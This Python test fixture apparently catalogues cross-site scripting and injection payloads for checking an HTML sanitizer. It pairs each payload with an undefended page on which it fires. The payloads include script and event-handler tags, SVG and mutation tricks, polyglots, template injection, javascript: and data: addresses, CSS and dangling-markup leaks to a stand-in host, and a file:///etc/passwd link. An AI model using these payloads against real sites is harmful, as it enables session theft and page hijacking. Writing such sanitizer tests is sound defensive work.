"""What has to stay mere words on any page: texts and addresses that would run, ask or stand there.

Each calls ``__ran`` with its number, asks ``outside.example``, or plants an element that has
``data-ran``. ``BARE`` is a page without any defence on which it does so.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

OUTSIDE = "outside.example"
PRODUCT = "13386415"
"""What a template makes of the sum that stands in a text."""
MARK = "data-ran"
_BODY = "<!doctype html><title>bare</title><body><p>{}</p>"
_DOUBLE = '<!doctype html><title>bare</title><body><input title="{}">'
_SINGLE = "<!doctype html><title>bare</title><body><input title='{}'>"
_UNQUOTED = "<!doctype html><title>bare</title><body><input title={}>"
_SCRIPT = '<!doctype html><title>bare</title><body><script>const told = "{}";</script>'
_TEMPLATE = "<!doctype html><title>bare</title><body><script>const told = `{}`;</script>"
_TITLE = "<!doctype html><title>{}</title><body>"
_COMMENT = "<!doctype html><title>bare</title><body><!-- {} -->"
_STYLE = "<!doctype html><title>bare</title><style>p {{ color: {} }}</style><body><p>words</p>"
_INLINE = '<!doctype html><title>bare</title><body><p style="color: {}">words</p>'
_AREA = "<!doctype html><title>bare</title><body><textarea>{}</textarea>"
_OPEN = "<!doctype html><title>bare</title><body><p>{}</p><p>it's</p>"
_LINK = '<!doctype html><title>bare</title><body><a href="{}">words</a>'
_FRAME = '<!doctype html><title>bare</title><body><iframe src="{}"></iframe>'
_INNER = (
    "<!doctype html><title>bare</title><body><p id=a></p><script type=application/json id=b>"
    '"{}"</script><script>document.getElementById("a").innerHTML = JSON.parse('
    'document.getElementById("b").textContent)</script>'
)


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and the page without defence in which it does harm; None where no browser does."""

    sort: str
    text: str
    bare: str | None


# RUN stands for the call, TAG for the mark of an element, OUT for an address elsewhere.
_TEXTS: tuple[tuple[str, str, str | None], ...] = (
    ("script", "<script TAG>RUN</script>", _BODY),
    ("script", "<ScRiPt/TAG\n>RUN</sCrIpT\t>", _BODY),
    ("script", "<script TAG src=//OUT></script>", _BODY),
    ("script", "<script TAG type=module>RUN</script>", _BODY),
    ("script", "<scr<script TAG>RUN</script>ipt>RUN</scr</script>ipt>", _BODY),
    ("handler", "<img TAG src=x onerror=RUN>", _BODY),
    ("handler", "<img/TAG/src=\"x\"/onerror='RUN'//", _BODY),
    ("handler", "<input TAG autofocus onfocus=RUN>", _BODY),
    ("handler", "<details TAG open ontoggle=RUN>", _BODY),
    ("handler", "<video TAG><source onerror=RUN></video>", _BODY),
    ("handler", "<a TAG onmouseover=RUN>words</a>", _BODY),
    ("handler", "<style TAG>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>",
     _BODY),
    ("svg", "<svg TAG onload=RUN>", _BODY),
    ("svg", "<svg><script TAG>RUN</script></svg>", _BODY),
    ("svg", "<svg><animate TAG onbegin=RUN attributeName=x dur=1s>", _BODY),
    ("svg", "<svg><a TAG xlink:href=javascript:RUN><text y=9>words</text></a></svg>", _BODY),
    ("svg", "<svg><use TAG href=https://OUT#x></use></svg>", _BODY),
    ("math", "<math TAG><mi xlink:href='javascript:RUN'>words</mi></math>", _BODY),
    ("template", "{{7*1912345}}{{constructor.constructor('RUN')()}}", None),
    ("template", "${RUN}", _TEMPLATE),
    ("template", "${7*1912345}#{7*1912345}<%= 7*1912345 %>{%print(7*1912345)%}", None),
    ("template", "`;RUN;`", _TEMPLATE),
    ("attribute", '" autofocus onfocus=RUN TAG="', _DOUBLE),
    ("attribute", "' autofocus onfocus=RUN TAG='", _SINGLE),
    ("attribute", "x\tautofocus\nonfocus=RUN\rTAG", _UNQUOTED),
    ("attribute", '"><img TAG src=x onerror=RUN>', _DOUBLE),
    ("attribute", "'><svg TAG onload=RUN>", _SINGLE),
    ("attribute", '" style="background:url(https://OUT)" TAG="', _DOUBLE),
    ("data in a script", '";RUN;//', _SCRIPT),
    ("data in a script", "</script><script TAG>RUN</script>", _SCRIPT),
    ("data in a script", "</script/TAG><img TAG src=x onerror=RUN>", _SCRIPT),
    ("data in a script", "<!--<script>", None),
    ("data in a script", "<!--</script><svg TAG onload=RUN>-->", _SCRIPT),
    ("data in a script", '\u2028";RUN;//\u2029', _SCRIPT),
    ("data in a script", '\\";RUN;//', None),
    ("data in a script", "]]>--></script></textarea></title><svg TAG onload=RUN>", _SCRIPT),
    ("data in a script", '","__proto__":{"innerHTML":"<img TAG src=x onerror=RUN>"},"x":"', None),
    ("data in a page", "\\u003cimg TAG src=x onerror=RUN\\u003e", _INNER),
    ("element", "</title><svg TAG onload=RUN>", _TITLE),
    ("element", "</textarea><svg TAG onload=RUN>", _AREA),
    ("element", "--><svg TAG onload=RUN>", _COMMENT),
    ("element", "--!><svg TAG onload=RUN>", _COMMENT),
    ("style", "</style><svg TAG onload=RUN>", _STYLE),
    ("style", "red}@import 'https://OUT';p{background:url(https://OUT)", _STYLE),
    ("style", "red;background-image:url(https://OUT)", _INLINE),
    ("style", "red;width:expression(RUN);-moz-binding:url(https://OUT)", None),
    ("style", "<link TAG rel=stylesheet href=https://OUT>", _BODY),
    ("style", "<style TAG>@import url(https://OUT);</style>", _BODY),
    ("entity", "&lt;img TAG src=x onerror=RUN&gt;", None),
    ("entity", "&#60;img TAG src=x onerror=RUN&#62;&#x3c;svg TAG onload=RUN&#x3e;", None),
    ("entity", "&amp;lt;script TAG&amp;gt;RUN&amp;lt;/script&amp;gt;", None),
    ("entity", "%3Cimg%20TAG%20src=x%20onerror=RUN%3E%253Csvg%2520onload=RUN%253E", None),
    ("entity", "&quot; autofocus onfocus=RUN TAG=&quot;", None),
    ("charset", "+ADw-script TAG+AD4-RUN+ADw-/script+AD4-", None),
    ("charset", "\u00bcscript TAG\u00beRUN\u00bc/script\u00be\uff1cimg TAG\uff1e", None),
    ("charset", "\x1b$B<img TAG src=x onerror=RUN>\x1b(B", _BODY),
    ("control", "<s\x00cript>RUN</script><im\x00g src=x><img\x00 TAG src=x onerror=RUN>", _BODY),
    ("control", "\x00<svg\x0cTAG\x0conload=RUN>", _BODY),
    ("control", "\u202e<img TAG src=x onerror=RUN>\u202c\u2066", _BODY),
    ("mutation", "<noscript><p title='</noscript><img TAG src=x onerror=RUN>'>", _BODY),
    ("mutation", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
     "&lt;img src=x onerror=RUN&gt;' TAG>", _BODY),
    ("mutation", "<svg></p><style><a id='</style><img TAG src=x onerror=RUN>'>", _BODY),
    ("mutation", "<template><b TAG></b></template><xmp><p title='</xmp><svg TAG onload=RUN>'>",
     _BODY),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//%0D%0A//</stYle/</titLe/"
     "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/TAG/oNloAd=RUN//>\\x3e", _BODY),
    ("polyglot", "'\"--></style></script></title></textarea><svg TAG onload=RUN>`${RUN}`", _BODY),
    ("frame", '<iframe TAG srcdoc="<script>parent.RUN</script>"></iframe>', _BODY),
    ("frame", "<iframe TAG src=javascript:parent.RUN></iframe>", _BODY),
    ("frame", "<iframe TAG src=https://OUT></iframe>", _BODY),
    ("frame", "<object TAG data='data:text/html,<script>RUN</script>'></object>", _BODY),
    ("frame", "<embed TAG src=https://OUT>", _BODY),
    ("page", "<base TAG href=https://OUT/>", _BODY),
    ("page", "<meta TAG http-equiv=refresh content='0;url=https://OUT'>", _BODY),
    ("page", "<meta TAG http-equiv=Content-Security-Policy content=\"script-src *\">", _BODY),
    ("form", "<form TAG action=https://OUT><button autofocus>words</button></form>", _BODY),
    ("form", "<button TAG form=x formaction=javascript:RUN>words</button>", _BODY),
    ("form", "</form><form TAG id=search action=//OUT><input name=q>", _BODY),
    ("dangling", "<img TAG src='https://OUT?", _OPEN),
    ("dangling", '"><a TAG href="https://OUT?', _DOUBLE),
    ("dangling", "<textarea TAG><button form=x>", _BODY),
    ("name", "<img TAG name=getElementById><form TAG id=page><input id=meta></form>", _BODY),
    ("link", "[words](javascript:RUN) ![words](https://OUT) <javascript:RUN>", None),
)  # fmt: skip
_PAGE = base64.b64encode(b"<script>parent.postMessage(1)</script>").decode()
_ADDRESSES: tuple[tuple[str, str, str | None], ...] = (
    ("address", "javascript:RUN", _LINK),
    ("address", "JaVaScRiPt:RUN", _LINK),
    ("address", "javascript://OUT/%0ARUN", _LINK),
    ("address", "javascript:%5Fran=RUN", _LINK),
    ("address", "vbscript:RUN", _LINK),
    ("address", f"data:text/html;base64,{_PAGE}", _LINK),
    ("address", "data:text/html,%3Cscript%20TAG%3ERUN%3C/script%3E", _FRAME),
    ("address", "data:image/svg+xml,%3Csvg%20onload=RUN%3E", _LINK),
    ("address", "https:javascript:RUN", None),
    ("address", "https://OUT/'onmouseover='RUN'TAG='", "<body><a href='{}'>words</a>"),
    ("address", "https://OUT/&quot;%22onmouseover=RUN", None),
    ("address", "file:///etc/passwd", None),
)


def _made(found: tuple[tuple[str, str, str | None], ...], first: int) -> tuple[Payload, ...]:
    return tuple(
        Payload(
            sort,
            text.replace("RUN", f"__ran({number})")
            .replace("TAG", MARK)
            .replace("OUT", f"{OUTSIDE}/{number}"),
            bare,
        )
        for number, (sort, text, bare) in enumerate(found, first)
    )


TEXTS = _made(_TEXTS, 100)
"""What may stand in any text."""
ADDRESSES = _made(_ADDRESSES, 300)
"""What may stand for the address of a source; an IRI each, as nothing else can be stored."""
